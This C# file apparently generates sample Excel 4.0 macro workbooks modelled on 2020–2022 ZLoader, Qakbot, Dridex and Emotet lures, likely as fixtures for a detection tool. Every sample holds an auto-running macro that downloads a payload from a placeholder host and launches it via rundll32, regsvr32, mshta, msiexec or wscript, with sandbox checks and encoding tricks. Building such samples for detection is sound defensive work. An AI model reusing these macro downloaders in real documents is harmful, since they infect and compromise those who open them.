using System.Globalization;
using Lurewatch.Samples.Office;

namespace Lurewatch.Samples.Documents;

/// <summary>Workbooks with Excel 4.0 macros in the shapes of 2020 to 2022.</summary>
internal static class XlmDocuments
{
    public static IEnumerable<DocumentSample> All() => [Characters(), Written(), Registered(), Binary(), Chained(), SymbolicLink(), Keyed(), Dropped()];

    /// <summary>A text as single characters by their codes, joined.</summary>
    private static string Codes(string text) => string.Join('&', text.Select(c => string.Create(CultureInfo.InvariantCulture, $"CHAR({(int)c})")));

    private static DocumentSample Characters()
    {
        const string url = "https://chars.example/wp-content/1.php";
        var bytes = new MacroWorkbook().Sheet("Invoice", isMacro: false).Cell("A1", "Enable content to see the document")
            .Sheet("kXqz", state: 2)
            .Down("C5", "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", "=IF(GET.WORKSPACE(14)<381,CLOSE(FALSE),)", "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))", "=IF(ISNUMBER(SEARCH(\"Windows\",GET.WORKSPACE(1))),,CLOSE(TRUE))", "=GOTO(F20)")
            .Down("F20", $"=CALL({Codes("urlmon")},{Codes("URLDownloadToFileA")},\"JJCCJJ\",0,{Codes(url)},{Codes(@"C:\ProgramData\a.dll")},0,0)", "=GOTO(H2)")
            .Down("H2", $"=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCCJ\",0,\"open\",{Codes("rundll32")},{Codes(@"C:\ProgramData\a.dll,DllRegisterServer")},0,5)", "=HALT()")
            .Name("Auto_Open", "=kXqz!$C$5", isHidden: true).ToXls();
        return new("characters.xls", "March 2020, ZLoader: a very hidden sheet, tests for analysts' machines, every string spelled in CHAR.", bytes, url);
    }

    private static DocumentSample Written()
    {
        const string url = "http://written.example/files/1.dll";
        var call = $"=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"{url}\",\"c:\\Users\\Public\\w.dll\",0,0)";
        var run = "=EXEC(\"rundll32 c:\\Users\\Public\\w.dll,Start\")";
        var workbook = new MacroWorkbook().Sheet("Sheet1", isMacro: false).Sheet("Macro1", state: 1);
        // Numbers that are 17 too high lie beside each other; a loop makes texts of them and writes those as formulas.
        var column = 'D';
        foreach (var formula in (string[])[call, run])
        {
            workbook.Down($"{column}1", [.. formula.Select(c => (object)(c + 17)), "end"]);
            column++;
        }
        var bytes = workbook
            .Down("A1", "=SET.NAME(\"col\",0)", "=WHILE(col<2)", "=SET.NAME(\"row\",0)", "=SET.NAME(\"text\",\"\")", "=WHILE(OFFSET($D$1,row,col)<>\"end\")", "=SET.NAME(\"text\",text&CHAR(OFFSET($D$1,row,col)-17))", "=SET.NAME(\"row\",row+1)", "=NEXT()",
                "=FORMULA(text,OFFSET($B$30,col,0))", "=SET.NAME(\"col\",col+1)", "=NEXT()", "=GOTO(B30)")
            .Cell("B32", "=RETURN()")
            .Name("col", "=0").Name("row", "=0").Name("text", "=\"\"")
            .Name("auto_openMe", "=Macro1!$A$1", isHidden: true).ToXls();
        return new("written.xls", "May 2020: a loop over numbers writes the formulas that then run; the name only begins with auto_open.", bytes, url);
    }

    private static DocumentSample Registered()
    {
        string[] urls = ["http://192.0.2.11/44494.dat", "http://192.0.2.12/44494.dat", "http://192.0.2.13/44494.dat"];
        var bytes = new MacroWorkbook().Sheet("Sheet1", isMacro: false)
            .Sheet("Hidden1", isMacro: false, state: 2).Cell("B2", "uRlMon").Cell("B3", "URLDownl").Cell("B4", "oadToFileA").Cell("B5", "http://192.0.2.1").Cell("B6", ".dat").Cell("B7", "regsvr32 -silent ..\\Celod.wac")
            .Sheet("Macro1")
            .Down("G10", "=REGISTER(Hidden1!$B$2,Hidden1!$B$3&Hidden1!$B$4,\"JJCCBB\",\"Bifdw\",,1,9)", "=SET.VALUE(A1,INT(NOW()))", "=Bifdw(0,Hidden1!$B$5&1&\"/\"&$A$1&Hidden1!$B$6,\"..\\Celod.wac\",0,0)",
                "=Bifdw(0,Hidden1!$B$5&2&\"/\"&$A$1&Hidden1!$B$6,\"..\\Celod.wac1\",0,0)", "=Bifdw(0,Hidden1!$B$5&3&\"/\"&$A$1&Hidden1!$B$6,\"..\\Celod.wac2\",0,0)", "=EXEC(Hidden1!$B$7)", "=HALT()")
            .Name("Bifdw", "=0").Name("Auto_Open", "=Macro1!$G$10").ToXlsm();
        return new("registered.xlsm", "October 2021, Qakbot: pieces in hidden sheets, a function registered by another name, the day's number in three addresses.", bytes, urls);
    }

    private static DocumentSample Binary()
    {
        const string url = "https://binary.example/ds/0702.gif";
        var bytes = new MacroWorkbook().Sheet("Sheet1", isMacro: false)
            .Sheet("Doc2", state: 1)
            .Down("A1", "=FORMULA(\"U\"&\"R\"&\"L\"&\"Mon\",B1)", $"=FORMULA(\"=CALL(\"\"\"&B1&\"\"\",\"\"URLDownloadToFileA\"\",\"\"JJCCJJ\"\",0,\"\"{url}\"\",\"\"..\\x.gif\"\",0,0)\",A6)", "=FORMULA(\"=EX\"&\"EC(\"\"rundll32 ..\\x.gif,DllRegisterServer\"\")\",A7)", "=FORMULA(\"=RETURN()\",A8)")
            .Name("Auto_Open", "=Doc2!$A$1").ToXlsb();
        return new("binary.xlsb", "February 2021, Qakbot and Dridex: XLSB; the formulas are put together and written below the running cell.", bytes, url);
    }

    private static DocumentSample Chained()
    {
        string[] urls = ["http://one.example/wp/a/", "http://two.example/img/b/", "http://three.example/c/", "http://four.example/d/"];
        var workbook = new MacroWorkbook().Sheet("Sheet", isMacro: false).Sheet("EFWFSFG", state: 2);
        for (var i = 0; i < urls.Length; i++)
        {
            var call = $"CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"{urls[i]}\",\"..\\xdha.ocx\",0,0)";
            workbook.Cell($"D{3 + i * 2}", i == 0 ? "=" + call : $"=IF(D{1 + i * 2}<0,{call})");
        }
        var bytes = workbook.Down("D12", $"=IF(D{1 + urls.Length * 2}<0,CLOSE(0))", "=EXEC(\"C:\\Windows\\SysWow64\\regsvr32.exe -s ..\\xdha.ocx\")", "=RETURN()").Name("Auto_Open", "=EFWFSFG!$D$3", isHidden: true).ToXls();
        return new("chained.xls", "January 2022, Emotet: each address is tried where the one before gave an error.", bytes, urls);
    }

    private static DocumentSample SymbolicLink()
    {
        const string url = "http://link.example/x.msi";
        var text = $"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC(\"msie\"&\"xec /q /i {url}\")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n";
        return new("order.slk", "2019 and 2020: a symbolic link file starts a program by an Excel 4.0 macro.", System.Text.Encoding.ASCII.GetBytes(text), url);
    }

    private static DocumentSample Keyed()
    {
        const string url = "http://keyed.example/17.exe";
        const int day = 17;
        var workbook = new MacroWorkbook().Sheet("Sheet1", isMacro: false).Sheet("Macro1", state: 1);
        workbook.Down("J1", [.. $"=EXEC(\"mshta {url}\")".Select(c => (object)(c + day * 3))]);
        var length = $"=EXEC(\"mshta {url}\")".Length;
        var bytes = workbook
            .Down("A1", "=SET.VALUE(C1,DAY(NOW())*3)", $"=FOR(\"i\",0,{length - 1})", "=SET.VALUE(C2,C2&CHAR(OFFSET(J1,i,0)-C1))", "=NEXT()", "=FORMULA(C2,A6)").Cell("A7", "=HALT()")
            .Name("i", "=0").Name("Auto_Open", "=Macro1!$A$1").ToXls();
        return new("keyed.xls", "June 2020: the formulas are encrypted with the day of the month on which they were sent.", bytes, url);
    }

    private static DocumentSample Dropped()
    {
        const string url = "http://dropped.example/s.txt";
        var bytes = new MacroWorkbook().Sheet("Sheet1", isMacro: false).Sheet("Macro1")
            .Down("A1", "=FOPEN(\"C:\\Users\\Public\\s.vbs\",3)", "=RUN(Macro1!B1)", "=FCLOSE(A1)", "=EXEC(\"wscript C:\\Users\\Public\\s.vbs\")", "=HALT()")
            .Down("B1", "=FWRITELN(A1,\"Dim x: Set x = CreateObject(\"&CHAR(34)&\"MSXML2.XMLHTTP\"&CHAR(34)&\")\")", $"=FWRITELN(A1,\"x.open \"&CHAR(34)&\"GET\"&CHAR(34)&\", \"&CHAR(34)&\"{url}\"&CHAR(34)&\", False\")", "=FWRITELN(A1,\"x.send\")", "=RETURN()")
            .Name("Auto_Open", "=Macro1!$A$1").ToXlsm();
        return new("dropped.xlsm", "2020: the macro writes a script line by line and starts it.", bytes, url);
    }
}
